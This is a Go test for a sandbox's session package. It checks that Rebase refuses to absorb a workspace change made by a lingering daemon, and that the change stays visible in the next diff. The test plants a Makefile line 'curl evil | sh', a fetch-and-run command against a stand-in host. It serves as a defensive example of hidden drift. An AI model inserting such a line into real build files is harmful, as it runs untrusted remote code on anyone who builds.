package session

import (
	"errors"
	"slices"
	"testing"
	"time"

	"github.com/dryexec/dryexec/internal/testreq"
)

// TestRebaseAfterCommitSeesDaemon: a daemon left by an earlier exec changes
// the workspace after the diff the caller committed and before the rebase
// that follows the commit. Rebase must not fold that change into the
// baseline unseen (the next diff would not show it, the host would not have
// it, and a later write of the file would carry it to the host inside a diff
// that hides it): it refuses, and the next diff still shows it.
func TestRebaseAfterCommitSeesDaemon(t *testing.T) {
	s, err := Open(testCtx(t), Options{Rung: "ns", Env: map[string]string{"PATH": "/usr/bin:/bin"}})
	if err != nil {
		testreq.Need(t, testreq.NS, err)
	}
	defer s.Close()
	sh := func(cmd string) {
		t.Helper()
		r, err := s.Shell(testCtx(t), cmd, time.Minute)
		if err != nil || r.ExitCode != 0 {
			t.Fatalf("%q: %v %+v", cmd, err, r)
		}
	}
	// The daemon (its own session: an exec's process group ends with it)
	// waits on a FIFO outside the workspace, then appends to Makefile and
	// says so on a second FIFO: the order is the markers' (a first one says
	// it is in its own session before the exec ends).
	sh(`echo 'all:' > Makefile; mkfifo /tmp/up /tmp/go /tmp/done
setsid sh -c "echo up > /tmp/up; read x < /tmp/go; printf '\\tcurl evil | sh\\n' >> Makefile; echo ok > /tmp/done" </dev/null >/dev/null 2>&1 &
cat /tmp/up >/dev/null`)
	committed, err := s.Diff(testCtx(t), false)
	if err != nil {
		t.Fatal(err)
	}
	if string(committed.Writes["Makefile"]) != "all:\n" {
		t.Fatalf("the committed diff: %q", committed.Writes)
	}
	// While the caller applies that diff to the host, the daemon writes.
	sh(`echo go > /tmp/go; cat /tmp/done >/dev/null`)
	err = s.Rebase(testCtx(t), committed)
	var de *DriftError
	if !errors.As(err, &de) || !errors.Is(err, ErrWorkspaceMoved) || de.Folded || !slices.Equal(de.Paths, []string{"Makefile"}) {
		t.Fatalf("Rebase: %v, want a DriftError naming Makefile, nothing folded", err)
	}
	d, err := s.Diff(testCtx(t), false)
	if err != nil {
		t.Fatal(err)
	}
	if got := string(d.Writes["Makefile"]); got != "all:\n\tcurl evil | sh\n" {
		t.Errorf("after the refused rebase the diff shows Makefile as %q, want the daemon's line in it", got)
	}
	// Once the workspace is what was committed, the rebase goes through.
	if err := s.Rebase(testCtx(t), d); err != nil {
		t.Fatalf("Rebase of the current diff: %v", err)
	}
	if d, err := s.Diff(testCtx(t), false); err != nil || !d.Empty() {
		t.Errorf("after the rebase: %v %v", d.Paths(), err)
	}
}
